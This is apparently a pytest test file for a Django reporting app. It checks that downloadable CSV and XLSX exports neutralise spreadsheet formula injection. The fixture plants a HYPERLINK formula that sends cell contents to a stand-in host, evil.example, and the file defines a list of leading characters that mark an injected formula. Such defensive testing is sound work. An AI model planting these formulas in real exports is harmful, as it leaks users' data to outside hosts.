"""Whatever anybody can write, no file that is handed out makes a formula of it: every address that gives a file is tried."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from support.programs import caller
from support.web_world import World
from web.test_access import ADDRESSES, declared
from zhijian.web.api.service import FILES
from zhijian.web.collection.actions.attach import attach
from zhijian.web.collection.actions.comment import write_comment
from zhijian.web.collection.actions.explain import give_reason
from zhijian.web.collection.actions.save import save_cells
from zhijian.web.collection.entry import Entry
from zhijian.web.organisations.actions.invite import invite
from zhijian.web.organisations.models import Membership, Organisation, User
from zhijian.web.organisations.roles import Role
from zhijian.web.rounds.models import Round

Browser = Callable[[str], Client]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"看")'
LEADS = ("=", "+", "-", "@", "\t=", "＝")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[-+]?[0-9][0-9.,%]*\Z")
POSTED = {"bridge:download"}
PDF = b"%PDF-1.4\n"


@pytest.fixture
def everywhere(world: World) -> World:
    """The dangerous text in every place where somebody can write one; the city's reviewer is administrator too."""
    clerk, admin = world.user("clerk-school-04"), world.user("administrator-yunling")
    row = world.submission("school-04")
    for number, lead in enumerate(LEADS):
        code = ("graduates.total", "graduates.employed", "students.full_time")[number % 3]
        write_comment(submission=row, indicator=code, slice="", text=lead + EVIL, by=clerk)
    cell = {c.indicator: c for c in row.cells.filter(period="2024", slice="")}["graduates.total"]
    entry = Entry("graduates.total", "", "2024", EVIL, cell.version)
    save_cells(submission=row, entries=[entry], by=clerk)
    give_reason(
        submission=row, indicator="graduates.total", slice="", period="2024", kind="outlier", text=EVIL, by=clerk
    )
    attach(submission=row, indicator="", slice="", upload=SimpleUploadedFile("=1+1.pdf", PDF), by=clerk)
    invite(organisation=row.organisation, role=Role.clerk, name=EVIL[:60], by=admin)
    Organisation.objects.filter(code="school-04").update(name=EVIL)
    Round.objects.update(name=EVIL)
    User.objects.filter(username__startswith="clerk").update(name=EVIL[:60])
    user, city = world.user("reviewer-yunling"), Organisation.objects.get(code="yunling")
    for role in (Role.administrator, Role.editor):
        Membership.objects.create(user=user, organisation=city, role=role)
    return World(world.round_id, world.sessions)


def addresses(world: World) -> Iterator[tuple[str, str]]:
    """(name, address) of everything that can be asked for, once for each kind of file."""
    values = {
        "<int:round_id>": str(world.round_id),
        "<slug:org_code>": "school-04",
        "<slug:name>": "submit",
        "<str:indicator>": "graduates.total",
        "<str:token>": "x",
        "<slug:deed>": "close",
        "<int:number>": str(world.submission("school-04").attachments.get().pk),
    }
    for name, (route, _view) in sorted(ADDRESSES.items()):
        if declared(name).kind == "token" or name.startswith(("account", "mfa")):
            continue
        for kind in ("csv", "xlsx") if "<slug:kind>" in route else ("",):
            address = "/" + route.replace("<slug:kind>", kind)
            for part, value in values.items():
                address = address.replace(part, value)
            yield name, address


def content(answer: object) -> bytes:
    streaming: bool = answer.streaming  # type: ignore[attr-defined]
    return b"".join(answer.streaming_content) if streaming else answer.content  # type: ignore[attr-defined]


def faults_of(name: str, data: bytes) -> list[str]:
    """Cells of a file (or of the files in an archive) that a spreadsheet program would take for a formula or a link."""
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            if "xl/workbook.xml" in archive.namelist():
                return faults_of_workbook(name, data)
            return [
                fault
                for part in archive.namelist()
                if part.endswith((".csv", ".xlsx"))
                for fault in faults_of(f"{name}/{part}", archive.read(part))
            ]
    if data.startswith(b"%PDF"):
        return []
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert any("evil.example" in cell for cell in cells) or "evil" not in data.decode("utf-8-sig")
    return [f"{name}: {cell}" for cell in cells if cell.startswith(DANGEROUS) and not NUMBER.match(cell)]


def faults_of_workbook(name: str, data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    return [
        f"{name}: {cell.coordinate} {cell.value}"
        for cell in cells
        if (cell.data_type == "f" and ("evil" in str(cell.value) or "1+1" in str(cell.value))) or cell.hyperlink
    ]


def test_no_file_that_a_page_hands_out_holds_a_formula_that_somebody_wrote(
    everywhere: World, signed_in: Browser
) -> None:
    browser, seen, faults, dangerous = signed_in("reviewer-yunling"), set(), [], 0
    for name, address in addresses(everywhere):
        answer = browser.post(address) if name in POSTED else browser.get(address)
        if "attachment" not in answer.headers.get("Content-Disposition", ""):
            assert "<slug:kind>" not in ADDRESSES[name][0], f"{name} hands out no file: {answer.status_code}"
            continue
        data = content(answer)
        seen.add(name)
        dangerous += b"evil.example" in data
        faults += faults_of(address, data)
    assert faults == []
    assert {"audit:export", "bridge:download", "collection:attachment", "collection:workbook"} <= seen
    assert {name for name in ADDRESSES if name.endswith("export")} <= seen
    assert dangerous >= 3  # what is not compressed


def test_no_file_that_a_program_gets_holds_a_formula_that_somebody_wrote(everywhere: World) -> None:
    program = caller(everywhere, "reviewer-yunling")
    values = {"round_id": everywhere.round_id, "org_code": "school-04"}
    values["number"] = everywhere.submission("school-04").attachments.get().pk
    for url in FILES:
        answer = program.get(url.format(**values))
        assert answer.status_code == 200, url
        assert faults_of(url, content(answer)) == []
